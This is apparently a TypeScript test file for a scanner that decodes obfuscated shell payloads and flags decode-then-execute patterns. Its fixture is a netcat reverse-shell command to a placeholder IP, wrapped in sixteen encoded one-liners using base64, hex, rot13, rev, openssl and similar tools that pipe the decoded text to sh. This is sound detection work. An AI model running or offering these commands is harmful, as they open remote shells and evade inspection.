/**
 * Static decoding: a payload whose encoded text is literal (base64, base32, hex, printf and echo -e escapes,
 * rev, tr rotations, openssl enc -d, python -m base64) is decoded and the decoded script judged too; its
 * findings carry the decoded command and point at the encoded literal. Decoding into a file is not running.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { decodeBase32, decodeBase64, decodeEscapes, decodeHex, MAX_DECODED, reverseLines, translate } from '../src/commands/encodings.ts';
import { commandFindings, containerPath } from './indicator-helpers.ts';

const PAYLOAD = 'nc -e /bin/sh 198.51.100.7 4242';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');
const escapes = (text: string) => [...text].map((char) => '\\x' + char.charCodeAt(0).toString(16).padStart(2, '0')).join('');
const octal = (text: string) => [...text].map((char) => '\\' + char.charCodeAt(0).toString(8).padStart(3, '0')).join('');
const reversed = (text: string) => [...text].reverse().join('');
const rot13 = (text: string) => text.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c === c.toLowerCase() ? 97 : 65)));
/** RFC 4648 base32, as coreutils' base32 writes it. */
function base32(text: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = '';
  for (const byte of Buffer.from(text)) bits += byte.toString(2).padStart(8, '0');
  let out = '';
  for (let index = 0; index < bits.length; index += 5) out += alphabet[parseInt(bits.slice(index, index + 5).padEnd(5, '0'), 2)];
  return out.padEnd(Math.ceil(out.length / 8) * 8, '=');
}

function findings(indicator: string, script: string) {
  return commandFindings(indicator, ['/bin/sh', '-c', script]);
}

const ENCODED: Array<[string, string]> = [
  ['base64 -d', `echo ${base64(PAYLOAD)} | base64 -d | sh`],
  ['base64 --decode from a here-string', `base64 --decode <<< ${base64(PAYLOAD)} | bash`],
  ['base32 -d', `echo ${base32(PAYLOAD)} | base32 -d | sh`],
  ['basenc --base64 -d', `echo ${base64(PAYLOAD)} | basenc --base64 -d | sh`],
  ['xxd -r -p', `echo ${hex(PAYLOAD)} | xxd -r -p | sh`],
  ["printf '\\x..'", `printf '${escapes(PAYLOAD)}' | sh`],
  ['printf octal escapes', `printf '${octal(PAYLOAD)}' | bash`],
  ["echo -e '\\x..'", `echo -e '${escapes(PAYLOAD)}' | sh`],
  ['rev', `echo '${reversed(PAYLOAD)}' | rev | sh`],
  ['tr rot13', `echo '${rot13(PAYLOAD)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`],
  ['openssl enc -d -base64', `echo ${base64(PAYLOAD)} | openssl enc -d -base64 | sh`],
  ['openssl base64 -d', `echo ${base64(PAYLOAD)} | openssl base64 -d | sh`],
  ['python3 -m base64 -d', `echo ${base64(PAYLOAD)} | python3 -m base64 -d | sh`],
  ['eval of a decoded command substitution', `eval "$(echo ${base64(PAYLOAD)} | base64 -d)"`],
  ['sh -c of a decoded variable', `P=$(echo ${base64(PAYLOAD)} | base64 -d); sh -c "$P"`],
  ['two layers: base64 of hex', `echo ${base64(hex(PAYLOAD))} | base64 -d | xxd -r -p | sh`],
];

describe('literal encoded payloads are decoded and judged', () => {
  for (const [label, script] of ENCODED) {
    test(label, () => {
      const escape = findings('shell-escape', script).find((finding) => /netcat with -e/.test(finding.message));
      assert.ok(escape, `${label}: ${JSON.stringify(findings('shell-escape', script).map((f) => f.message))}`);
      assert.equal(escape.evidence, PAYLOAD, 'the decoded command is the evidence');
      assert.match(escape.message, /in a payload it decodes/);
      assert.equal(escape.path, containerPath('command', 2), 'at the scalar that holds the encoded literal');
      assert.ok(findings('obfuscated-execution', script).some((finding) => /runs text it decodes/.test(finding.message)), `${label}: obfuscated-execution`);
    });
  }
});

describe('decoding that does not run the result stays quiet', () => {
  const TWINS: Array<[string, string]> = [
    ['base64 -d into a key file', 'echo "$TLS_KEY_B64" | base64 -d > /tmp/key.pem && chmod 600 /tmp/key.pem'],
    ['base32 -d into a file', `echo ${base32('seed')} | base32 -d > /tmp/otp.seed`],
    ['xxd -r -p into a binary', `echo ${hex('MZ')} | xxd -r -p > /tmp/header.bin`],
    ['printf escapes into a config file', "printf 'a\\x3db\\n' > /etc/app.conf"],
    ['rev of a log line', 'tail -n1 /var/log/app.log | rev | cut -d/ -f1 | rev'],
    ['tr upper-casing', 'echo "$NAME" | tr a-z A-Z'],
    ['a decoded value printed', `echo ${base64('hello')} | base64 -d`],
  ];
  for (const [label, script] of TWINS) {
    test(label, () => {
      assert.deepEqual(findings('obfuscated-execution', script).map((f) => f.message), []);
      assert.deepEqual(findings('shell-escape', script).filter((f) => !/decodes base64/.test(f.message)).map((f) => f.message), []);
    });
  }
});

describe('decoders', () => {
  test('base64, url-safe, with whitespace and padding', () => {
    assert.equal(decodeBase64(base64(PAYLOAD)), PAYLOAD);
    assert.equal(decodeBase64(Buffer.from('??>>').toString('base64url')), '??>>');
    assert.equal(decodeBase64('bmMg\nLWU=\n'), 'nc -e');
    assert.equal(decodeBase64('not base64!'), undefined);
  });
  test('UTF-16LE (PowerShell) is recognised by its zero bytes', () => {
    assert.equal(decodeBase64(Buffer.from('IEX x', 'utf16le').toString('base64')), 'IEX x');
  });
  test('base32 and hex', () => {
    assert.equal(decodeBase32(base32(PAYLOAD)), PAYLOAD);
    assert.equal(decodeBase32('1234'), undefined);
    assert.equal(decodeHex(hex(PAYLOAD)), PAYLOAD);
    assert.equal(decodeHex('abc'), undefined);
  });
  test('escapes, rev, tr', () => {
    assert.equal(decodeEscapes(escapes('curl') + '\\n'), 'curl\n');
    assert.equal(decodeEscapes(octal('sh')), 'sh');
    assert.equal(reverseLines('lruc\nhs'), 'curl\nsh');
    assert.equal(translate(rot13(PAYLOAD), 'A-Za-z', 'N-ZA-Mn-za-m'), PAYLOAD);
    assert.equal(translate('x', '[:lower:]', '[:upper:]'), undefined);
  });
  test('output is bounded', () => {
    assert.ok(decodeBase64('QUFB'.repeat(100_000))!.length <= MAX_DECODED);
    assert.ok(reverseLines('x'.repeat(MAX_DECODED * 2)).length <= MAX_DECODED);
  });
});
